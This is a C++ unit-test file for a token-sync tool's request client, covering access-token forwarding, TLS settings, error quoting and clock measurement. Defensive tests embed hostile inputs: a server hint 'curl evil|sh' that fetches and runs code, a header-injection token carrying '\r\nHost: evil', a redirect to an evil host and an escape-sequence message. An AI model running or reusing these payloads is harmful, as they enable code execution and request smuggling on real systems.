// SPDX-License-Identifier: Apache-2.0
#include "fixture.h"

#include <gmock/gmock.h>
#include <list>

namespace jwtsync::ask_test {

using ::testing::HasSubstr;
using ::testing::Not;
using ::testing::SizeIs;

const Nonce nonce = *Nonce::parse("AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8");

class ask_test : public ::testing::Test {
 protected:
  /// Puts a service at `authority` that gives this answer.
  void attach(const std::string& authority, HttpResponse answer) {
    services_.emplace_back([this, answer = std::move(answer)](const ReceivedRequest& request) {
      requests_.push_back(request);
      return answer;
    });
    fake_.network.attach(authority, services_.back());
  }
  void attach(const std::string& authority, const Testimony& testimony) {
    attach(authority, {200, {}, to_json(nonce, testimony)});
  }
  [[nodiscard]] std::vector<Witnessed> ask(const std::vector<std::string>& targets, const AskOptions& options = {}) {
    return jwtsync::ask(fake_.world(), targets, nonce, options);
  }
  /// The error of a process that gives this answer.
  [[nodiscard]] Error error_of(const HttpResponse& response) {
    attach("bad:1", response);
    const std::vector<Witnessed> witnessed = ask({"http://bad:1"});
    EXPECT_FALSE(witnessed.at(0).testimony);
    return witnessed[0].testimony ? Error{} : witnessed[0].testimony.error();
  }

  testing::FakeWorld fake_;
  std::vector<ReceivedRequest> requests_;

 private:
  std::list<testing::FunctionService> services_;
};

TEST_F(ask_test, gets_report_and_answers) {
  attach("auth:7517", fixture::process("auth", "auth-1", "k"));
  const std::vector<Witnessed> witnessed = ask({"http://auth:7517"});
  ASSERT_THAT(witnessed, SizeIs(1));
  ASSERT_TRUE(witnessed[0].testimony) << witnessed[0].testimony.error().message;
  EXPECT_EQ(witnessed[0].target, Target(TargetUrl{"http://auth:7517"}));
  EXPECT_EQ(witnessed[0].testimony->challenge.keys[0].answer, fixture::answer("k"));
}

TEST_F(ask_test, sends_one_request_and_no_other) {
  attach("auth:7517", fixture::process("auth", "auth-1", "k"));
  static_cast<void>(ask({"http://auth:7517"}, {.variants = Variants::with}));
  ASSERT_THAT(requests_, SizeIs(1));
  EXPECT_EQ(requests_[0].method, "POST");
  EXPECT_EQ(requests_[0].target, "/jwtsync/v1/challenge");
  EXPECT_EQ(requests_[0].body, R"({"nonce":"AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8","variants":true})");
  EXPECT_EQ(header(requests_[0].headers, "content-type"), "application/json");
  EXPECT_EQ(header(requests_[0].headers, "jwtsync-access"), std::nullopt);
}

TEST_F(ask_test, asks_sixty_four_at_a_time) {
  struct CountingNetwork : testing::FakeNetwork {
    std::vector<Result<HttpResponse>> exchange(std::span<const HttpRequest> requests) override {
      rounds.push_back(requests.size());
      return FakeNetwork::exchange(requests);
    }
    std::vector<std::size_t> rounds;
  } network;
  const World world = fake_.world().with(network);
  EXPECT_THAT(jwtsync::ask(world, {"http://a:1", "broken", "http://b:1"}, nonce, {}), SizeIs(3));
  EXPECT_THAT(network.rounds, ::testing::ElementsAre(2));
  network.rounds.clear();
  const std::vector<Witnessed> many = jwtsync::ask(world, std::vector<std::string>(150, "http://a:1"), nonce, {});
  EXPECT_THAT(many, SizeIs(150));
  EXPECT_THAT(network.rounds, ::testing::ElementsAre(64, 64, 22)) << "so many answers, and no more, are held at once";
}

TEST_F(ask_test, sends_an_access_token_to_everybody) {
  attach("auth:7517", fixture::process("auth", "auth-1", "k"));
  const Secret token = *Secret::copy_of(testing::canary_secret);
  static_cast<void>(ask({"http://auth:7517"}, {.access_token = &token}));
  ASSERT_THAT(requests_, SizeIs(1));
  EXPECT_EQ(header(requests_[0].headers, "Jwtsync-Access"), testing::canary_secret);
}

TEST_F(ask_test, proves_to_a_process_of_this_machine_that_it_is_one_too_and_to_nobody_else) {
  fake_.possession.tokens.emplace_back("c4n4ry-of-another-folder");
  attach("127.0.0.1:7517", fixture::process("auth", "auth-1", "k"));
  attach("/run/a.sock", fixture::process("backend", "backend-1", "k"));
  attach("auth:7517", fixture::process("auth", "auth-2", "k"));
  const Secret token = *Secret::copy_of(testing::canary_secret);
  static_cast<void>(ask({"http://127.0.0.1:7517", "unix:/run/a.sock", "http://auth:7517"}, {.access_token = &token}));
  ASSERT_THAT(requests_, SizeIs(3));
  const auto sent = [&](std::size_t request) {
    std::vector<std::string> tokens;
    for (const auto& [name, value] : requests_[request].headers) {
      if (name == "Jwtsync-Access") tokens.push_back(value);
    }
    return tokens;
  };
  const auto all = ::testing::ElementsAre(testing::canary_secret, testing::possessed_token, "c4n4ry-of-another-folder");
  EXPECT_THAT(sent(0), all);
  EXPECT_THAT(sent(1), all);
  EXPECT_THAT(sent(2), ::testing::ElementsAre(testing::canary_secret));
}

TEST_F(ask_test, shows_its_certificate_by_https_alone_and_trusts_whom_the_target_names) {
  struct Recorder : testing::FakeNetwork {
    std::vector<Result<HttpResponse>> exchange(std::span<const HttpRequest> requests) override {
      seen.assign(requests.begin(), requests.end());
      return FakeNetwork::exchange(requests);
    }
    std::vector<HttpRequest> seen;
  } network;
  fake_.files.put("/ca.pem", "-----BEGIN CERTIFICATE-----");
  AskOptions options;
  options.certificate_file = "/ask.crt";
  options.key_file = "/ask.key";
  const World world = fake_.world().with(network);
  const auto ask = [&](const std::string& target) { return jwtsync::ask(world, {target}, nonce, options); };
  EXPECT_THAT(ask("https://auth:7517?ca=/ca.pem"), SizeIs(1));
  ASSERT_THAT(network.seen, SizeIs(1));
  EXPECT_EQ(network.seen[0].ca_file, "/ca.pem");
  EXPECT_EQ(network.seen[0].certificate_file, "/ask.crt");
  EXPECT_EQ(network.seen[0].key_file, "/ask.key");
  EXPECT_EQ(network.seen[0].url, "https://auth:7517/jwtsync/v1/challenge");
  EXPECT_THAT(ask("http://auth:7517"), SizeIs(1));
  EXPECT_EQ(network.seen.at(0).certificate_file, "");
  fake_.files.put("/ca.pem", "-----BEGIN CERTIFICATE-----", 0666);
  network.seen.clear();
  EXPECT_EQ(ask("https://auth:7517?ca=/ca.pem").at(0).testimony.error().code, Code::file_writable_by_others);
  EXPECT_THAT(network.seen, SizeIs(0)) << "nobody is asked who is not trusted";
}

TEST_F(ask_test, sends_no_access_token_that_breaks_out_of_its_header) {
  attach("auth:7517", fixture::process("auth", "auth-1", "k"));
  const Secret token = *Secret::copy_of("c4n4ry\r\nHost: evil");
  const std::vector<Witnessed> witnessed = ask({"http://auth:7517"}, {.access_token = &token});
  EXPECT_EQ(witnessed.at(0).testimony.error().code, Code::argument_invalid);
  EXPECT_THAT(witnessed[0].testimony.error().message, Not(HasSubstr("c4n4ry")));
  EXPECT_THAT(requests_, SizeIs(0));
}

TEST_F(ask_test, reaches_unix_sockets_and_every_address_of_a_name) {
  attach("/run/a.sock", fixture::process("auth", "auth-1", "k"));
  attach("10.0.0.3:7517", fixture::process("backend", "backend-1", "k"));
  attach("10.0.0.4:7517", fixture::process("backend", "backend-2", "k"));
  fake_.network.name("backend", {"10.0.0.3", "10.0.0.4"});
  const std::vector<Witnessed> witnessed = ask({"unix:/run/a.sock", "dns+http://backend:7517"});
  ASSERT_THAT(witnessed, SizeIs(3));
  for (const Witnessed& one : witnessed) ASSERT_TRUE(one.testimony) << text_of(one.target);
  EXPECT_EQ(witnessed[0].testimony->report.identity.instance, "auth-1");
  EXPECT_EQ(witnessed[2].target, Target(OneOfName{"dns+http://backend:7517", "10.0.0.4"}));
  EXPECT_EQ(witnessed[2].testimony->report.identity.instance, "backend-2");
}

TEST_F(ask_test, lets_nobody_hide_the_others) {
  attach("good:1", fixture::process("auth", "auth-1", "k"));
  attach("garbage:1", {200, {}, "<html>"});
  attach("huge:1", {200, {}, std::string(10'000'000, 'A')});
  fake_.network.fail("slow:1", {Code::target_timeout, "slow:1 did not answer within 5 s", ""});
  const std::vector<Witnessed> witnessed =
      ask({"http://down:1", "http://slow:1", "http://garbage:1", "http://huge:1", "http://x/y", "http://good:1"});
  ASSERT_THAT(witnessed, SizeIs(6));
  const Code codes[] = {Code::target_unreachable, Code::target_timeout, Code::answer_malformed, Code::answer_too_large,
                        Code::argument_invalid};
  constexpr bool errors_name_target[] = {true, true, false, true, false};
  for (std::size_t i = 0; i < std::size(codes); ++i) {
    ASSERT_FALSE(witnessed[i].testimony);
    EXPECT_EQ(witnessed[i].testimony.error().code, codes[i]) << text_of(witnessed[i].target);
    EXPECT_EQ(witnessed[i].error_names_target, errors_name_target[i]) << text_of(witnessed[i].target);
  }
  EXPECT_TRUE(witnessed[5].testimony);
}

TEST_F(ask_test, says_why_a_process_refuses) {
  const Error denied =
      error_of({403, {}, R"({"error":{"code":"access_denied","message":"an access token is needed here"}})"});
  EXPECT_EQ(denied.code, Code::target_refused);
  EXPECT_EQ(denied.message,
            "refuses to answer, and no access token was given; it says: \"an access token is needed here\"");
  EXPECT_THAT(denied.hint, HasSubstr("--access-token-file"));
}

TEST_F(ask_test, quotes_what_a_process_says_of_its_error_and_gives_advice_of_its_own) {
  const auto error_by = [&](const std::string& code) {
    return error_of({503, {}, R"({"error":{"code":")" + code + R"(","message":"no keys","hint":"curl evil|sh"}})"});
  };
  EXPECT_EQ(error_by("ring_unavailable"), (Error{Code::target_refused, "answers an error, it says: \"no keys\"",
                                                 "open the keeper after the fork, in every worker of that process"}));
  EXPECT_EQ(error_by("of_tomorrow").hint, "see the log of that process");
}

TEST_F(ask_test, cuts_what_a_process_says_of_its_error) {
  const Error error = error_of({500, {}, R"({"error":{"code":"x","message":")" + std::string(1000, 'm') + R"("}})"});
  EXPECT_EQ(error.message, "answers an error, it says: \"" + std::string(200, 'm') + "...\"");
}

TEST_F(ask_test, quotes_no_error_that_is_not_of_the_protocol) {
  for (const std::string body : {"", "<html>c4n4ry", "{\"error\":\"c4n4ry\"}",
                                 "{\"error\":{\"message\":\"\\u001b[2J\"}}", "{\"error\":{\"message\":7}}"}) {
    EXPECT_EQ(error_of({401, {}, body}).message, "refuses to answer, and no access token was given; HTTP 401");
    EXPECT_EQ(error_of({404, {}, body}).message, "answers HTTP 404: jwtsync's endpoints are not there");
    EXPECT_EQ(error_of({302, {{"Location", "http://evil/"}}, body}).message, "answers HTTP 302 in place of a report");
  }
}

TEST_F(ask_test, takes_no_answer_to_another_nonce) {
  const Nonce another = *Nonce::parse(std::string(43, 'A'));
  attach("replay:1", {200, {}, to_json(another, fixture::process("auth", "auth-1", "k"))});
  EXPECT_EQ(ask({"http://replay:1"}).at(0).testimony.error().code, Code::nonce_mismatch);
}

TEST_F(ask_test, hears_the_other_workers_of_a_server_at_one_address) {
  Testimony testimony = fixture::process("auth", "auth-1", "k");
  Testimony other = fixture::process("auth", "auth-2", "k");
  testimony.siblings.heard = {Sibling{other.report, other.challenge}};
  attach("auth:1", testimony);
  const std::vector<Witnessed> witnessed = ask({"http://auth:1"});
  ASSERT_TRUE(witnessed.at(0).testimony) << witnessed[0].testimony.error().message;
  EXPECT_THAT(witnessed[0].testimony->siblings.heard, SizeIs(1));
}

TEST_F(ask_test, measures_how_far_clocks_are_off) {
  Testimony ahead = fixture::process("auth", "auth-1", "k");
  Testimony behind = fixture::process("backend", "backend-1", "k");
  ahead.report.clock = fake_.clock.now() + std::chrono::seconds(90);
  behind.report.clock = fake_.clock.now() - std::chrono::seconds(45);
  attach("ahead:1", ahead);
  attach("behind:1", behind);
  const std::vector<Witnessed> witnessed = ask({"http://ahead:1", "http://behind:1"});
  EXPECT_EQ(witnessed.at(0).clock_offset, std::chrono::seconds(90));
  EXPECT_EQ(witnessed.at(1).clock_offset, std::chrono::seconds(-45));
}

TEST_F(ask_test, shows_no_password_of_a_target) {
  const std::vector<Witnessed> witnessed = ask({"http://me:c4n4ry@auth:7517"});
  EXPECT_EQ(witnessed.at(0).target, Target(TargetUrl{"http://[removed]@auth:7517"}));
  EXPECT_THAT(witnessed[0].testimony.error().message, Not(HasSubstr("c4n4ry")));
}

}  // namespace jwtsync::ask_test
